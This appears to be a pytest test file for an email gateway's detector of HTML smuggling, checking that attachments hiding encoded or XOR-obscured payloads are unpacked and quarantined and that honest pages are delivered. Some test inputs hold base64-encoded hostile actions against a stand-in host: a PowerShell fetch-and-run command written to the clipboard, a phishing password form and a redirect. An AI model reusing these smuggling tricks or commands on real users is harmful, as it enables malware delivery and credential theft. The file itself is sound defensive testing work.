"""Attached pages in the whole analysis: every payload comes out, every attack is held, no honest page is."""

import io
import sys
import zipfile
from collections.abc import Callable
from email.message import EmailMessage
from functools import partial
from types import FrameType

import pytest
from tests.pages import acting_pages, browser_pages, further_pages, gated_pages, honest_pages, xml_pages
from tests.pages.honest_pages import HONEST, HonestPage
from tests.pages.smuggling_pages import PAYLOADS, SAVE, TRICKS, b64, script
from tests.variants import one_in

from gatepost.analysis.analyse import analyse
from gatepost.analysis.report import Report
from gatepost.analysis.stages import Context
from gatepost.files.values import UnpackBudget
from gatepost.files.walk import find_files
from gatepost.mail.message import Envelope, Message, Part
from gatepost.mail.reader import read
from gatepost.workers.warmup import answers_to

ACTING = {
    f"{group}: {name}": html
    for group in ("COMMANDS", "LOGINS", "REDIRECTS", "UNKNOWN", "STALLING")
    for name, html in getattr(acting_pages, group).items()
}


def make_message(page: HonestPage) -> bytes:
    message = EmailMessage()
    message["From"], message["To"] = "Desk <desk@notice.example>", "ann@house.example"
    message["Subject"], message["Date"] = "As discussed", "Tue, 10 Nov 2026 09:12:00 +0000"
    message["Message-ID"] = "<4711.1@notice.example>"
    if not page.name:
        message.set_content(page.content, subtype="html")
        return message.as_bytes()
    message.set_content(page.text)
    main, _, sub = page.type.partition("/")
    message.add_attachment(page.content.encode(), maintype=main, subtype=sub, filename=page.name)
    return message.as_bytes()


def judge(page: HonestPage, skip: dict[str, str] | None = None) -> Report:
    envelope = Envelope("desk@notice.example", ("ann@house.example",), "192.0.2.25", "mx.notice.example")
    return judge_raw(make_message(page), envelope, skip)


def judge_raw(raw: bytes, envelope: Envelope | None = None, skip: dict[str, str] | None = None) -> Report:
    analysis = analyse(raw, envelope or Envelope("desk@notice.example"), Context(now=1_794_302_520.0, skip=skip or {}))
    try:
        questions = next(analysis)
        while True:
            questions = analysis.send(answers_to(questions))
    except StopIteration as stop:
        report: Report = stop.value
        return report


def open_page(html: str | bytes, budget: UnpackBudget | None = None, name: str = "a.html") -> list[bytes]:
    part = Part("1", names=(name,), content=html if isinstance(html, bytes) else html.encode())
    return [file.content for file in find_files(Message(parts=(part,)), budget)]


@pytest.mark.parametrize("trick", one_in(3, TRICKS))
def test_a_payload_comes_out_and_its_page_is_held(trick: str) -> None:
    for name, payload in PAYLOADS.items():
        assert any(payload in content for content in open_page(TRICKS[trick](payload))[1:]), name
    report = judge(HonestPage(TRICKS[trick](payload)))
    assert report.decision == "quarantine"
    assert "file:html-smuggling" in report.tags
    assert report.outcomes == ()


@pytest.mark.parametrize("trick", one_in(4, browser_pages.TRICKS))
def test_a_payload_comes_out_of_every_part_of_the_browser(trick: str) -> None:
    for name in ("eicar.com", "invoice.zip"):
        page = browser_pages.TRICKS[trick](PAYLOADS[name])
        assert any(PAYLOADS[name] in content for content in open_page(page)[1:]), name


@pytest.mark.parametrize("trick", [*browser_pages.HELD, *[*browser_pages.TRICKS][::9]])
def test_a_page_that_uses_rare_parts_of_the_browser_is_held(trick: str) -> None:
    page = (browser_pages.HELD | browser_pages.TRICKS)[trick](PAYLOADS["setup.exe"])
    assert judge(HonestPage(page)).decision == "quarantine"


def gate(name: str, payload: bytes) -> str:
    body = "<button id=b>Open</button><input id=i1>"
    return script(f"function go(){{var s=atob('{b64(payload)}');{SAVE}}}{gated_pages.GATES[name]}", body)


@pytest.mark.parametrize("name", one_in(4, gated_pages.GATES))
def test_a_payload_comes_out_whatever_the_page_asks_of_its_browser(name: str) -> None:
    payload = PAYLOADS["setup.exe"]
    assert payload in open_page(gate(name, payload))[1:]


@pytest.mark.parametrize("name", [*gated_pages.GATES][::9])
def test_a_page_that_acts_behind_a_condition_is_held(name: str) -> None:
    report = judge(HonestPage(gate(name, PAYLOADS["invoice.zip"])))
    assert report.decision == "quarantine", report.lines


LIBRARY = "".join(f"function f{n}(a,b){{if(a&&b[{n}])return a.map(x=>x*{n});return b||[]}}" for n in range(1_200))
EVENTS = (
    "'blur focus focusin focusout resize scroll click dblclick mousedown mouseup mousemove mouseover mouseout "
    "mouseenter mouseleave change select submit keydown'"
)


@pytest.mark.parametrize("name", [*gated_pages.GATES][3::16])
@pytest.mark.parametrize("form", ["{0}</script><script>{1}", "{0};{1}", "{1};{0}", "{0};{1};{0}"])
def test_much_code_beside_a_page_that_acts_behind_a_condition_hides_nothing(name: str, form: str) -> None:
    secret = bytes(byte ^ place * 31 & 255 for place, byte in enumerate(PAYLOADS["invoice.zip"]))
    act = (
        f"function go(){{var r=atob('{b64(secret)}'),s='';"
        f"for(var j=0;j<r.length;j++)s+=String.fromCharCode(r.charCodeAt(j)^j*31&255);{SAVE}}}{gated_pages.GATES[name]}"
    )
    html = script(form.format(LIBRARY, act), "<button id=b>Open</button><input id=i1><p>Figures of October</p>")
    assert judge(HonestPage(html)).decision == "quarantine"


@pytest.mark.parametrize("action", ["location=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUvbG9naW4=')", "document.title='x'"])
def test_a_library_of_any_size_does_not_keep_conditions_closed(action: str) -> None:
    html = script(f"{LIBRARY * 9}</script><script>if(navigator.ink){{{action}}}", "<p>Figures of October</p>")
    assert judge(HonestPage(html)).decision == ("quarantine" if "atob" in action else "deliver")


def test_what_a_library_defines_is_there_where_conditions_are_opened() -> None:
    pieces = b64(PAYLOADS["invoice.zip"])
    parts = "+".join(repr(pieces[start : start + 60]) for start in range(0, len(pieces), 60))
    html = script(f"{LIBRARY};function go(){{var s=atob({parts});{SAVE}}}</script><script>if(navigator.ink)go()")
    assert judge(HonestPage(html)).decision == "quarantine"


def test_words_in_a_row_beside_an_export_are_no_data() -> None:
    export = (
        f"var names={EVENTS}.split(' ');b.onclick=()=>{{if(navigator.ink){{const a=document.createElement('a');"
        "a.href=URL.createObjectURL(new Blob(['a;b']));a.download='a.csv';a.click()}}"
    )
    html = script(f"{LIBRARY};{export}", "<button id=b>Save</button><p>Figures of October</p>")
    assert judge(HonestPage(html)).decision == "deliver"


@pytest.mark.parametrize(
    "action",
    [
        "location=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUvbG9naW4=')",
        "navigator.clipboard.writeText(atob('cG93ZXJzaGVsbCAtdyBoIC1jIGllcihpd3IgaHR0cHM6Ly9ldmlsLmV4YW1wbGUvYSk='))",
        "document.body.innerHTML=atob('PGZvcm0gYWN0aW9uPWh0dHBzOi8vZXZpbC5leGFtcGxlPjxpbnB1dCB0eXBlPXBhc3N3b3JkPjwvZm9ybT4=')",
    ],
)
def test_what_is_done_behind_a_condition_is_held(action: str) -> None:
    html = script(f"if(Object.keys(document.body).length==0&&navigator instanceof Navigator){{{action}}}")
    assert judge(HonestPage(html)).decision == "quarantine"


@pytest.mark.parametrize(
    "code",
    [
        "if(window.ActiveXObject){location='https://www.house.example/old'}",
        "if(top!==self)top.location=self.location",
        "if(/Mobile/.test(navigator.userAgent)){location='https://m.house.example/'}",
        "b.onclick=()=>{if(navigator.msSaveBlob)navigator.msSaveBlob(new Blob(['a;b']),'a.csv')}",
        "try{JSON.parse('{}')}catch(e){document.body.innerHTML='<p>Cannot be shown</p>'}",
    ],
)
def test_what_honest_pages_do_behind_conditions_is_delivered(code: str) -> None:
    assert judge(HonestPage(script(code, "<button id=b>Save</button>"))).decision == "deliver"


@pytest.mark.parametrize("name", one_in(2, ACTING))
def test_a_page_that_acts_is_held(name: str) -> None:
    report = judge(HonestPage(ACTING[name]))
    assert report.decision == "quarantine", report.lines
    assert {outcome.stage for outcome in report.outcomes} <= ({"pages"} if name.startswith("STALLING") else set())


@pytest.mark.parametrize("name", one_in(3, further_pages.HELD))
def test_a_page_that_acts_in_a_further_way_is_held(name: str) -> None:
    report = judge(HonestPage(further_pages.HELD[name]))
    assert report.decision == "quarantine", report.lines


@pytest.mark.parametrize("name", further_pages.DISGUISED)
def test_a_page_is_one_under_other_first_bytes(name: str) -> None:
    file, content = further_pages.DISGUISED[name]
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = "desk@notice.example", "ann@house.example", "As discussed"
    message.set_content("Please see the page.")
    message.add_attachment(content, maintype="application", subtype="octet-stream", filename=file)
    assert judge_raw(message.as_bytes()).decision == "quarantine"


@pytest.mark.parametrize("name", one_in(2, xml_pages.SMUGGLING))
def test_a_payload_comes_out_of_xml(name: str) -> None:
    file, content = xml_pages.SMUGGLING[name]
    assert PAYLOADS["setup.exe"] in open_page(content, name=file)
    assert PAYLOADS["setup.exe"] in open_page(content.encode("utf-16"), name=file)
    report = judge(HonestPage(content, file, "image/svg+xml" if file.endswith("svg") else "application/xml"))
    assert report.decision == "quarantine"
    assert report.outcomes == ()


@pytest.mark.parametrize("name", xml_pages.ACTING)
def test_xml_that_acts_is_held(name: str) -> None:
    file, content = xml_pages.ACTING[name]
    report = judge(HonestPage(content, file, "application/octet-stream"))
    assert report.decision == "quarantine", report.lines
    assert report.outcomes == ()


@pytest.mark.parametrize("name", one_in(3, HONEST))
def test_an_honest_page_is_delivered(name: str) -> None:
    report = judge(HONEST[name])
    assert report.decision == "deliver", report.lines
    assert report.outcomes == ()


def test_the_sets_are_as_large_as_they_are_said_to_be() -> None:
    assert len(TRICKS) >= 60
    assert len(browser_pages.TRICKS) >= 80
    assert len(TRICKS) * len(PAYLOADS) + len(ACTING) >= 150
    assert len(HONEST) >= 60


def test_pages_inside_archives_and_messages_run() -> None:
    payload = PAYLOADS["setup.exe"]
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("invoice.html", TRICKS["exclusive or"](payload))
    inner = EmailMessage()
    inner["From"], inner["Subject"] = "a@b.example", "x"
    inner.set_content("see")
    inner.add_attachment(packed.getvalue(), maintype="application", subtype="zip", filename="a.zip")
    outer = EmailMessage()
    outer["From"] = "a@b.example"
    outer.set_content("see")
    outer.add_attachment(inner)
    assert payload in [file.content for file in find_files(read(outer.as_bytes()))]


def test_scripts_in_the_text_of_a_message_run() -> None:
    payload = PAYLOADS["setup.exe"]
    message = read(make_message(HonestPage(TRICKS["exclusive or"](payload), "")))
    assert payload in [file.content for file in find_files(message)]


def test_pages_without_scripts_do_not_run() -> None:
    budget = UnpackBudget()
    for html in (
        "<p>Description of a subscription</p><a href='https://a.example'>a</a>",
        f"<img src='{honest_pages.PICTURE}'>",
        "<table style='font:1px'><tr><td>one on=one</td></tr></table>",
    ):
        open_page(html, budget)
    assert budget.script_time.pages == 0
    open_page("<script>1</script>", budget)
    assert budget.script_time.pages == 1


def test_pages_run_only_where_native_libraries_may_be_called() -> None:
    budget = UnpackBudget(native=False)
    open_page(TRICKS["exclusive or"](PAYLOADS["setup.exe"]), budget)
    assert budget.script_time.pages == 0


def test_a_script_without_end_makes_its_message_unscannable() -> None:
    report = judge(HonestPage("<script>for(;;);</script>"))
    assert [(outcome.stage, outcome.state) for outcome in report.outcomes] == [("pages", "failed")]
    assert (report.verdict, report.decision) == ("unscannable", "quarantine")
    assert "file:html-unfinished" in report.tags
    assert judge(HonestPage("<p>Text</p>")).outcomes == ()


def test_a_script_that_ends_early_is_said_to() -> None:
    report = judge(HonestPage("<script>navigator.disk.read()</script>"))
    lines = [line for line in report.lines if line.kind == "file:html-unfinished"]
    assert [line.facts["reason"] for line in lines] == ["TypeError: cannot read property 'read' of undefined"]


def count_calls(run: Callable[[], object]) -> int:
    """Return how many functions are called, those of libraries as well: nearly the same number on every machine."""
    count = 0

    def note(_frame: FrameType, event: str, _called: object) -> None:
        nonlocal count
        count += event in ("call", "c_call")

    sys.setprofile(note)
    try:
        run()
    finally:
        sys.setprofile(None)
    return count


def test_what_a_page_costs_beside_its_scripts() -> None:
    calls, runs = [], []
    acting = [html for name, html in ACTING.items() if not name.startswith("STALLING")]
    for html in [*(trick(PAYLOADS["invoice.zip"]) for trick in TRICKS.values()), *acting]:
        budget = UnpackBudget()
        calls.append(count_calls(partial(open_page, html, budget)))
        runs.append(budget.script_time.pages)
    assert sum(calls) / len(calls) < 3_000
    assert max(calls) < 60_000
    assert max(runs) == 2, "a page in a page"


@pytest.mark.variant
@pytest.mark.parametrize("name", acting_pages.STALLING)
def test_what_a_page_costs_that_works_against_it(name: str) -> None:
    assert count_calls(lambda: open_page(acting_pages.STALLING[name])) < 60_000


@pytest.mark.variant
def test_eight_thousand_scripts() -> None:
    """They cost as much each as two thousand."""

    def read_scripts(number: int) -> int:
        body = "x=a+b*c(d)[e];" * 60
        html = "".join(f"<script>var a{each}=1;{body}location.x=a{each}</script>" for each in range(number))
        message = read(make_message(HonestPage(f"<html>{html}")))
        return count_calls(lambda: find_files(message))

    assert read_scripts(8_000) < 6 * read_scripts(2_000)
